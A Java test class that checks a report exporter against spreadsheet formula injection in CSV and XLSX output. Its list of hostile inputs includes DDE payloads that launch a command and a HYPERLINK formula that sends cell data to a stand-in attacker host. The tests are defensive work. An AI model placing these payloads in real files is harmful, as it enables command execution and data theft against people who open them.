package dev.counterweight.reports.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jsoup.Jsoup;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ExportTest {
  private static final Instant AT = Instant.parse("2026-07-03T04:12:00Z");

  /** What a cell must not begin with, wherever a program lets it begin. */
  private static final String FORMULA_STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20";

  private static final List<String> HOSTILE =
      List.of(
          "=1+1",
          "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
          "+49 30 1234",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "  =1+1",
          "\u00a0=1+1",
          "\uff1d1+1",
          "a;=1+1",
          "a,=1+1",
          "a\n=1+1",
          "a\t=1+1",
          "\"=1+1\"",
          "\",=1+1",
          "<script>alert(1)</script>",
          "\u0000\u0007\ud800half",
          "_x003D_1+1",
          "plain, with \"quotes\" and\nlines");

  @TempDir private Path dir;

  @ParameterizedTest
  @ValueSource(strings = {";", ",", "\t", "|"})
  void noCellOfTheCsvBeginsLikeAFormulaWhateverSeparatesCells(String separator) throws IOException {
    CsvExport.write(sheet(HOSTILE), dir.resolve("hostile.csv"));
    String text = Files.readString(dir.resolve("hostile.csv"));

    for (String line : text.split("\r\n|\n|\r")) {
      for (String cell : line.split(java.util.regex.Pattern.quote(separator))) {
        assertThat(cell.replaceFirst("^\"", "").stripLeading())
            .as(line)
            .satisfies(c -> assertThat(isFormula(c)).isFalse());
      }
    }
  }

  private static boolean isFormula(String cell) {
    return !cell.isEmpty() && FORMULA_STARTS.indexOf(cell.charAt(0)) >= 0;
  }

  @Test
  void theCsvReadsBackWithOneApostropheMoreAtMost() throws IOException {
    CsvExport.write(sheet(HOSTILE), dir.resolve("hostile.csv"));

    List<String> back = new ArrayList<>();
    try (Reader in = Files.newBufferedReader(dir.resolve("hostile.csv"))) {
      for (CSVRecord row :
          CSVFormat.RFC4180.builder().setSkipHeaderRecord(true).setHeader().get().parse(in)) {
        back.add(row.get("text"));
      }
    }
    assertThat(back).hasSameSizeAs(HOSTILE);
    assertThat(back)
        .contains("'=1+1", "'+49 30 1234", "a;'=1+1", "plain, with \"quotes\" and\nlines");
  }

  @Test
  void theWorkbookHoldsTextsOnlyAndNoFormula() throws IOException {
    XlsxExport.write(List.of(sheet(HOSTILE)), AT, dir.resolve("hostile.xlsx"));

    Map<String, String> parts = parts(dir.resolve("hostile.xlsx"));
    var cells =
        Jsoup.parse(parts.getOrDefault("xl/worksheets/sheet1.xml", ""), Parser.xmlParser())
            .select("c");
    assertThat(cells).hasSizeGreaterThan(HOSTILE.size());
    assertThat(cells.select("f")).isEmpty();
    for (var cell : cells.select("[t=inlineStr]")) {
      assertThat(isFormula(cell.wholeText())).as(cell.wholeText()).isFalse();
    }
    assertThat(parts.keySet()).noneMatch(name -> name.contains("externalLink"));
    assertThat(String.join("", parts.values())).doesNotContain("TargetMode");
  }

  @Test
  void numbersStayNumbers() throws IOException {
    Sheet sheet =
        new Sheet("rates", List.of("a", "b", "c"), List.of(Arrays.asList(-3L, .25, null)));
    CsvExport.write(sheet, dir.resolve("rates.csv"));
    XlsxExport.write(List.of(sheet), AT, dir.resolve("rates.xlsx"));

    assertThat(dir.resolve("rates.csv"))
        .content()
        .isEqualTo("\"a\",\"b\",\"c\"\r\n-3,0.25,\"\"\r\n");
    assertThat(parts(dir.resolve("rates.xlsx")).get("xl/worksheets/sheet1.xml"))
        .contains("<v>-3</v>", "<v>0.25</v>");
  }

  @Test
  void theSameTableGivesTheSameBytes() throws IOException, InterruptedException {
    XlsxExport.write(List.of(sheet(HOSTILE)), AT, dir.resolve("one.xlsx"));
    Thread.sleep(2_100); // zip keeps times of two seconds
    XlsxExport.write(List.of(sheet(HOSTILE)), AT, dir.resolve("two.xlsx"));

    assertThat(dir.resolve("one.xlsx")).hasSameBinaryContentAs(dir.resolve("two.xlsx"));
  }

  @Property(tries = 500)
  void noTextBeginsLikeAFormula(@ForAll String text) {
    assertThat(isFormula(SafeText.of(text))).isFalse();
    assertThat(isFormula(SafeText.of(text).stripLeading())).isFalse();
  }

  private static Sheet sheet(List<String> texts) {
    return new Sheet("hostile", List.of("text"), texts.stream().map(List::of).toList());
  }

  private static Map<String, String> parts(Path file) throws IOException {
    Map<String, String> parts = new TreeMap<>();
    try (ZipInputStream in = new ZipInputStream(Files.newInputStream(file))) {
      for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
        parts.put(entry.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
      }
    }
    return parts;
  }
}
